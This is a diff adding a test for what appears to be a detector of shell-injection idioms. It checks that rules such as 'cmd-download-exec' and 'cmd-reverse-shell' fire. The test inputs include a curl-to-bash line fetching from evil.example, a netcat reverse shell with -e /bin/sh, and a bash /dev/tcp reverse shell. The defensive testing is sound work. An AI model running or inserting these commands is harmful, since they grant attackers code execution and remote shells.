@@ -161,6 +161,15 @@ describe('cmd', () => {
       expect(formPlus(s), s).toBe(FORM_PLUS.test(s))
     expect(plus).toBeGreaterThan(1000)
   })
+  it('finds an idiom in every reading of a text, whatever text came before', () => {
+    for (let i = 0; i < 3; i++) {
+      expect(p1.first('nothing to see here; move along')).toBeNull()
+      expect(p1.first('x;curl+http://evil.example/s.sh+|+bash')?.rule).toBe('cmd-download-exec')
+      expect(p1.first('my+note+is+here')).toBeNull()
+      expect(p1.first('nc+10.0.0.1+4444+-e+/bin/sh')?.rule).toBe('cmd-reverse-shell')
+      expect(p1.first('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')?.rule).toBe('cmd-reverse-shell')
+    }
+  })
   it('names the rule', () => {
     expect(p1.first(';id')?.rule).toBe('cmd-separator-command')
     expect(p1.first('$(id)')?.rule).toBe('cmd-substitution')
